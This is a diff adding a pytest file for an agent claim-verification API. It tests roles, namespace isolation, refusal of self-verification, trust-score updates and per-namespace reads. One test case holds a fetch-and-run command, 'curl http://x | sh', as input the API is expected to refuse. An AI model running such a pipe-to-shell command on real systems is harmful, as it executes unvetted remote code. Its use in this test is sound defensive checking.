@@ -1,0 +1,108 @@
+"""Claims and trust over HTTP, on both backends: the verifier is the caller's agent; roles,
+namespaces and refusals; the evidence and trust log readable per namespace."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from affidavit.claims import ClaimService
+from tests.api.conftest import Api
+
+
+@pytest.fixture(scope="module")
+def agents(api: Api) -> ClaimService:
+    service = ClaimService(api.store)
+    # the agents behind the API keys of conftest, and two claimants
+    for agent_id, namespace, role in [
+        ("watcher-a", "a", "observer"),
+        ("bot-a", "a", "agent"),
+        ("bot-b", "b", "agent"),
+        ("root", "ops", "admin"),
+        ("worker-a", "a", "agent"),
+        ("worker-b", "b", "agent"),
+    ]:
+        service.add_agent(agent_id, namespace=namespace, role=role)
+    return service
+
+
+def claim(agent_id: str = "worker-a", command: str = "true", **kw: Any) -> dict[str, Any]:
+    return {
+        "agent_id": agent_id,
+        "claim_type": "test_result",
+        "claim": {"return_code": 0},
+        "command": command,
+        **kw,
+    }
+
+
+@pytest.mark.parametrize(
+    ("who", "body", "status", "code"),
+    [
+        ("none", claim(), 401, "unauthorized"),
+        ("observer_a", claim(), 403, "forbidden"),
+        ("agent_a", claim(), 200, None),
+        ("agent_b", claim(), 404, "agent_not_found"),  # another namespace's agent is not found
+        ("admin", claim(), 200, None),  # an admin verifies in every namespace
+        ("agent_a", claim("bot-a"), 403, "self_verification"),
+        ("agent_a", claim(command="curl http://x | sh"), 422, "command_not_allowed"),
+        ("agent_a", claim(command="sh -c true"), 422, "command_not_allowed"),
+        ("agent_a", claim("nobody"), 404, "agent_not_found"),
+        ("agent_a", {**claim(), "claim_type": "vibes"}, 422, "invalid_request"),
+        ("agent_a", claim(timeout_s=0), 422, "invalid_request"),
+    ],
+)
+def test_verify_claim_roles_and_refusals(
+    api: Api, agents: ClaimService, who: str, body: dict[str, Any], status: int, code: str | None
+) -> None:
+    before = agents.get_agent("worker-a").verifications
+    with api.client(None if who == "none" else who) as c:
+        r = c.post("/api/claims/verify", json=body)
+    assert r.status_code == status, r.text
+    if code is not None:
+        assert r.json()["error"]["code"] == code
+        assert agents.get_agent("worker-a").verifications == before  # nothing ran or was written
+    else:
+        verdict = r.json()
+        assert verdict["accurate"] is True and verdict["decided_by"] == "return_code"
+        assert verdict["actual"]["return_code"] == 0
+        assert agents.get_agent("worker-a").verifications == before + 1
+        evidence = agents.get_evidence(verdict["verification_id"])
+        assert evidence is not None and evidence["evidence_id"] == verdict["evidence_id"]
+
+
+def test_inaccurate_claim_moves_trust_down(api: Api, agents: ClaimService) -> None:
+    before = agents.get_agent("worker-a").trust_score
+    with api.client("agent_a") as c:
+        r = c.post("/api/claims/verify", json=claim(command="false"))
+    assert r.status_code == 200
+    assert r.json()["accurate"] is False
+    assert r.json()["new_trust_score"] < before
+
+
+def test_agent_reads_per_namespace(api: Api, agents: ClaimService) -> None:
+    with api.client("agent_a") as c:
+        c.post("/api/claims/verify", json=claim(command="echo hi", claim={"output_contains": "hi"}))
+    paths = ["trust", "verifications", "verification-stats", "trust-history"]
+    with (
+        api.client("observer_a") as mine,
+        api.client("agent_b") as other,
+        api.client("admin") as admin,
+    ):
+        for path in paths:
+            url = f"/api/agents/worker-a/{path}"
+            assert mine.get(url).status_code == 200, path
+            assert admin.get(url).status_code == 200, path
+            assert other.get(url).status_code == 404, path
+            assert mine.get(f"/api/agents/nobody/{path}").status_code == 404
+        trust = mine.get("/api/agents/worker-a/trust").json()
+        assert trust["agent_id"] == "worker-a" and 0 <= trust["trust_score"] <= 1
+        history = mine.get("/api/agents/worker-a/verifications", params={"limit": 1}).json()
+        assert len(history) == 1 and history[0]["claim_type"] == "test_result"
+        stats = mine.get("/api/agents/worker-a/verification-stats").json()
+        assert stats["total_verifications"] >= 1
+        log = mine.get("/api/agents/worker-a/trust-history").json()
+        assert [e["version"] for e in log] == list(range(1, len(log) + 1))
+        assert mine.get("/api/agents/worker-a/verifications",
+                        params={"claim_type": "vibes"}).status_code == 422  # fmt: skip
